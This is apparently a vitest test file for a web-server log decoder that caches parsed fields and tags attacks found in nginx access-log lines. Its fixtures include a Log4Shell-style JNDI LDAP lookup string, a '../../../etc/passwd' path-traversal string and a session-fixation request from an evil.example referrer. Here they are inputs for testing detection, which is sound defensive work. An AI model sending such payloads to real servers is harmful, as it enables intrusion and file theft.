/** What is remembered must read like one cut afresh, and never stand in for another. */
import { expect, test } from 'vitest';
import { createDecode } from '../decode.ts';
import { createMemo } from './memo.ts';

const { decode } = createDecode({ timezone: 'UTC', program: 'nginx' });
const line = (agent: string): string =>
  `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "${agent}"`;
const plain = 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0';

test('an agent is the same the first and every later time, also when one is the beginning of another', () => {
  for (const agent of [plain, `${plain}0`, plain, plain.slice(0, -1), `${plain} (compatible)`, plain, `${plain}0`])
    for (let n = 0; n < 3; n++) expect(decode(line(agent), 0)?.fields['user_agent.original']).toBe(agent);
});

test('an agent that carries an attack is judged each time, also behind a harmless beginning', () => {
  const attack = `${plain} ${'$'}{jndi:ldap://192.0.2.1/a}`;
  for (const agent of [plain, attack, plain, attack])
    expect(decode(line(agent), 0)?.fields['threat.web'], agent).toEqual(agent === attack ? ['jndi'] : undefined);
});

test('a remembered request does not decide alone: who linked to it and whose site it is are looked at each time', () => {
  const from = (referrer: string, site = ''): unknown =>
    decode(
      `${site}192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /?PHPSESSID=4f1c HTTP/1.1" 200 12 "${referrer}" "${plain}"`,
      0,
    )?.fields['threat.web'];
  for (let n = 0; n < 3; n++) {
    expect(from('https://evil.example/')).toEqual(['session-fixation']);
    expect(from('-')).toBeUndefined();
    expect(from('https://shop.example/?PHPSESSID=4f1c')).toBeUndefined();
    expect(from('https://shop.example/', 'shop.example:443 ')).toBeUndefined();
    expect(from('https://evil.example/', 'shop.example:443 ')).toEqual(['session-fixation']);
  }
});

test('request, referrer and agent each add what they show, once, in this order', () => {
  const attack = '../../../etc/passwd';
  const line = (request: string, referrer: string, agent: string): unknown =>
    decode(`192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "${request}" 404 12 "${referrer}" "${agent}"`, 0)?.fields[
      'threat.web'
    ];
  const jndi = `${'$'}{jndi:ldap://192.0.2.1/a}`;
  for (let n = 0; n < 3; n++) {
    expect(line(`GET /${attack} HTTP/1.1`, '-', plain)).toEqual(['path-traversal']);
    expect(line(`GET /${attack} HTTP/1.1`, jndi, attack)).toEqual(['path-traversal', 'jndi', 'command-injection']);
    expect(line('GET / HTTP/1.1', attack, jndi)).toEqual(['jndi', 'command-injection', 'path-traversal']);
    expect(line('GET / HTTP/1.1', '-', plain)).toBeUndefined();
  }
});

test('what comes again is remembered from the second time on, bounded in number and in length', () => {
  let made = 0;
  const memo = createMemo(100, (text, kept) => ({ text, kept, number: made++ }));
  const of = (text: string): { text: string; kept: boolean; number: number } => memo(`(${text})`, 1, text.length + 1);
  expect(of('one').kept).toBe(false);
  const second = of('one');
  expect(second).toEqual({ text: 'one', kept: true, number: 1 });
  expect(of('one')).toBe(second);
  for (let n = 0; n < 20_000; n++) expect(of(`other ${n}`).text).toBe(`other ${n}`);
  // What came once pushes out nothing.
  expect(of('one')).toBe(second);
  for (let n = 0; n < 20_000; n++) for (let times = 0; times < 2; times++) of(`twice ${n}`);
  const before = made;
  for (let n = 0; n < 20_000; n++) of(`twice ${n}`);
  expect(made - before).toBeGreaterThanOrEqual(20_000 - 4096);
  of('');
  expect(of('')).toMatchObject({ text: '', kept: true });
  const long = 'x'.repeat(101);
  for (let times = 0; times < 3; times++) expect(of(long).kept).toBe(false);
});

test('events say what they share only of parts that are remembered, and of attacks always', () => {
  const partsOf = (request: string, agent: string, site = '', referrer = '-'): readonly (object | null)[] | undefined =>
    decode(
      `${site}192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET ${request} HTTP/1.1" 200 12 "${referrer}" "${agent}"`,
      0,
    )?.alike?.parts;
  expect(partsOf('/shared', 'shared/1')).toEqual([null, null, []]);
  const [request, sender, threats] = partsOf('/shared', 'shared/1')!;
  expect([request, sender]).not.toContain(null);
  const again = partsOf('/shared', 'shared/1')!;
  expect([again[0] === request, again[1] === sender, again[2] === threats]).toEqual([true, true, true]);
  const news = partsOf('/never before', 'shared/1')!;
  expect([news[0] === null, news[1] === sender, news[2] === threats]).toEqual([true, true, true]);
  const stranger = partsOf('/shared', 'never before')!;
  expect([stranger[0] === request, stranger[1] === null]).toEqual([true, true]);

  // Whether this is an attack depends on the site's name and the referrer, which are no part of the request.
  const [asked, , quiet] = [0, 1, 2].map(() => partsOf('/?sid=1', 'shared/1', 'shop.example:443 '))[2]!;
  const fixed = partsOf('/?sid=1', 'shared/1', 'shop.example:443 ', 'https://evil.example/')!;
  expect([fixed[0] === asked, quiet === threats, fixed[2]]).toEqual([true, true, ['session-fixation']]);
  const both = (): object | null => partsOf('/?a=../../../etc/passwd', `${'$'}{jndi:ldap://192.0.2.1/a}`)![2]!;
  expect(both()).toEqual(['path-traversal', 'jndi', 'command-injection']);
  expect(both()).toBe(both());

  expect(
    decode(
      JSON.stringify({
        message: `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /shared HTTP/1.1" 200 12 "-" "shared/1"`,
        'cs-method': 'PUT',
      }),
      0,
    )?.alike,
  ).toBeUndefined();
});
